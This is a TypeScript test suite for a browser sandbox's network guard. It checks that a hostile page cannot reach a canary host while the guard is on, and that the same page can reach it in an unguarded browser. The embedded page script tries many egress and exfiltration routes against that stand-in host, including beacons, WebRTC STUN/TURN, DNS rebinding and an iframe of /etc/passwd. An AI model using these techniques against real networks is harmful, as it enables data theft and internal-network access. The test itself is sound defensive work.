import { createSocket, type Socket as UdpSocket } from 'node:dgram';
import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import { chromium } from 'playwright-core';
import type { SiteContent } from '@palisade/lab/site';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { browserOrSkip, found, openIn, startLab, type Lab } from '../../test/lab-browser.ts';
import { openSession, type OpenSession } from '../session.ts';

/** Outside the ranges of the lab's policy: whatever arrives here bypassed the guard. */
const CANARY = '127.66.13.7';
/** Within the lab's range; nothing listens there. */
const ALLOWED = '127.66.250.1';
const PORT = 8080;
const STUN_PORT = 3478;
const QUIC_PORT = 4433;

/** Every way out that a page has, tried at once; resolves when each has had its chance. */
const TRY_ALL = `(async () => {
  const at = '${CANARY}:${PORT}';
  const add = (name, attributes) => document.body.append(Object.assign(document.createElement(name), attributes));
  for (const rel of ['prefetch', 'preconnect', 'dns-prefetch', 'preload', 'modulepreload'])
    document.head.append(Object.assign(document.createElement('link'), { rel, as: 'script', href: 'http://prefetched.test:${PORT}/' + rel }));
  const rules = ['prefetch', 'prerender'].map((kind) => [kind, [{ urls: ['http://' + at + '/rules-' + kind], eagerness: 'immediate' }]]);
  document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules', textContent: JSON.stringify(Object.fromEntries(rules)) }));
  add('img', { src: 'http://' + at + '/img' });
  add('iframe', { src: 'http://' + at + '/frame' });
  add('iframe', { src: 'file:///etc/passwd' });
  navigator.sendBeacon('http://' + at + '/beacon', 'x');
  const rebound = async () => {
    for (let n = 0; n < 4; n += 1) await fetch('http://rebound.test:${PORT}/rebound?' + n, { mode: 'no-cors' }).catch(() => 0);
  };
  const tries = [
    rebound(),
    fetch('http://' + at + '/fetch', { mode: 'no-cors' }),
    fetch('http://canary.test:${PORT}/name', { mode: 'no-cors' }),
    fetch('/to-canary', { mode: 'no-cors' }),
    fetch('http://[::ffff:${CANARY}]:${PORT}/', { mode: 'no-cors' }),
    fetch('http://canary.test:${PORT + 1}/port', { mode: 'no-cors' }),
    fetch('https://quic.test:${QUIC_PORT}/', { mode: 'no-cors' }),
    fetch('http://secret-' + Math.random().toString(36).slice(2) + '.prefetched.test:${PORT}/exfiltrated', { mode: 'no-cors' }),
    navigator.serviceWorker?.register('/worker.js'),
    new Promise((resolve) => { const socket = new WebSocket('ws://' + at + '/socket'); socket.onerror = socket.onopen = resolve; }),
    new Promise((resolve) => { try { new WebTransport('https://' + at + '/').ready.then(resolve, resolve); } catch { resolve(); } }),
    (async () => {
      const peer = new RTCPeerConnection({ iceServers: [
        { urls: 'stun:${CANARY}:3478' }, { urls: 'stun:stun.prefetched.test:3478' },
        { urls: ['turn:${CANARY}:3478?transport=udp', 'turn:${CANARY}:${PORT}?transport=tcp'], username: 'u', credential: 'p' } ] });
      peer.createDataChannel('x');
      await peer.setLocalDescription(await peer.createOffer());
      await new Promise((resolve) => setTimeout(resolve, 1500));
    })(),
  ];
  const late = new Promise((resolve) => setTimeout(resolve, 8000));
  await Promise.race([Promise.allSettled(tries), late]);
  // Last, because it may leave the page.
  const link = Object.assign(document.createElement('a'), { href: 'http://' + at + '/file', download: 'file' });
  document.body.append(link); link.click();
  return 'tried';
})()`;

describe.skipIf(!browserOrSkip())('canaries', () => {
  let lab: Lab;
  let tcp: Server;
  const udp: UdpSocket[] = [];
  const paths: string[] = [];
  let connections = 0;
  const datagrams = { stun: 0, quic: 0 };
  beforeAll(async () => {
    tcp = createServer(({ url = '' }, answer) => {
      paths.push(url);
      answer.setHeader('content-type', url === '/worker.js' ? 'text/javascript' : 'text/html');
      answer.end(url === '/worker.js' ? `fetch('/worker')` : '<!doctype html><body>canary');
    });
    tcp.on('upgrade', ({ url = '' }, socket) => {
      paths.push(url);
      socket.destroy();
    });
    tcp.on('connection', () => (connections += 1));
    tcp.listen(PORT, CANARY);
    for (const [kind, port] of [
      ['stun', STUN_PORT],
      ['quic', QUIC_PORT],
    ] as const) {
      const socket = createSocket('udp4').on('message', () => (datagrams[kind] += 1));
      socket.bind(port, CANARY);
      udp.push(socket);
    }
    await Promise.all([tcp, ...udp].map((canary) => once(canary, 'listening')));
    const content: SiteContent = {
      headers: [['content-type', 'text/html']],
      body: '<!doctype html><body>page',
      routes: {
        '/to-canary': { status: 302, headers: [['location', `http://${CANARY}:${PORT}/redirected`]] },
        '/worker.js': {
          headers: [['content-type', 'text/javascript']],
          body: `fetch('http://${CANARY}:${PORT}/worker')`,
        },
      },
    };
    lab = await startLab({
      sites: [
        {
          host: 'page.test',
          https: content,
          http: content,
        },
      ],
      // Allowed at the first request, and at every other one.
      dns: { faults: { 'rebound.test A': { rotate: [[ALLOWED], [CANARY]] } } },
      records: ['canary', 'prefetched', 'quic'].map((name) => `${name}.test A ${CANARY}`),
    });
  });
  afterAll(async () => {
    await lab.close();
    tcp.closeAllConnections();
    tcp.close();
    for (const socket of udp) socket.close();
  });

  /** Over https and http: mixed content blocks some ways, an insecure context others. */
  const tryAll = async (session: OpenSession): Promise<void> => {
    const open = await session.fresh();
    for (const [{ page }, url] of [
      [session, lab.url('page.test')],
      [open, lab.site('page.test').httpUrl()],
    ] as const) {
      await page.goto(url);
      expect(await page.evaluate(TRY_ALL)).toBe('tried');
    }
  };

  it('receive nothing from a page that tries every way out', { timeout: 120_000 }, async () => {
    const before = { connections, ...datagrams };
    const session = await openIn(lab, lab.url('page.test'));
    await tryAll(session);
    expect(session.refused().length).toBeGreaterThan(3);
    await session.close();
    expect({ connections, ...datagrams }).toEqual(before);
    // No one resolves STUN servers and prefetched names.
    const asked = lab.dns.queries.map(({ name }) => name);
    expect(asked.filter((name) => name.startsWith('stun.'))).toEqual([]);
  });

  it('would have been reached by the same page if the operator opens their range', { timeout: 120_000 }, async () => {
    if (!found) throw new Error('no browser');
    const policy = { ...lab.policy, allowCidrs: [...lab.policy.allowCidrs, `${CANARY}/32`] };
    const session = await openSession({
      browser: found,
      policy,
      url: lab.url('page.test'),
      budget: { wallMs: 60_000 },
    });
    await tryAll(session);
    await session.close();
    expect(paths.some((path) => path.startsWith('/rebound'))).toBe(true);
    expect(paths).toEqual(expect.arrayContaining(['/img', '/frame', '/fetch', '/name', '/redirected', '/beacon']));
    // UDP is always blocked.
    expect(datagrams).toEqual({ stun: 0, quic: 0 });
  });

  it(
    'would have been reached by the same page in a browser without our guard and flags',
    { timeout: 120_000 },
    async () => {
      if (!found) throw new Error('no browser');
      paths.length = 0;
      const browser = await chromium.launch({
        executablePath: found.executable,
        env: { ...process.env, ...found.env },
        args: [
          '--no-sandbox',
          `--host-resolver-rules=MAP *.test ${CANARY}`,
          `--origin-to-force-quic-on=quic.test:${QUIC_PORT}`,
          '--disable-features=LocalNetworkAccessChecks',
        ],
      });
      const page = await browser.newPage();
      await page.goto(`http://${CANARY}:${PORT}/`);
      expect(await page.evaluate(TRY_ALL)).toBe('tried');
      const ways = ['/img', '/frame', '/beacon', '/fetch', '/name', '/socket', '/worker', '/exfiltrated', '/file'];
      const ahead = ['/prefetch', '/preload', '/modulepreload', '/rules-prefetch'];
      await vi.waitFor(() => expect(paths).toEqual(expect.arrayContaining([...ways, ...ahead])), { timeout: 60_000 });
      await vi.waitFor(() => expect([datagrams.stun > 0, datagrams.quic > 0]).toEqual([true, true]), {
        timeout: 60_000,
      });
      await browser.close();
    },
  );
});
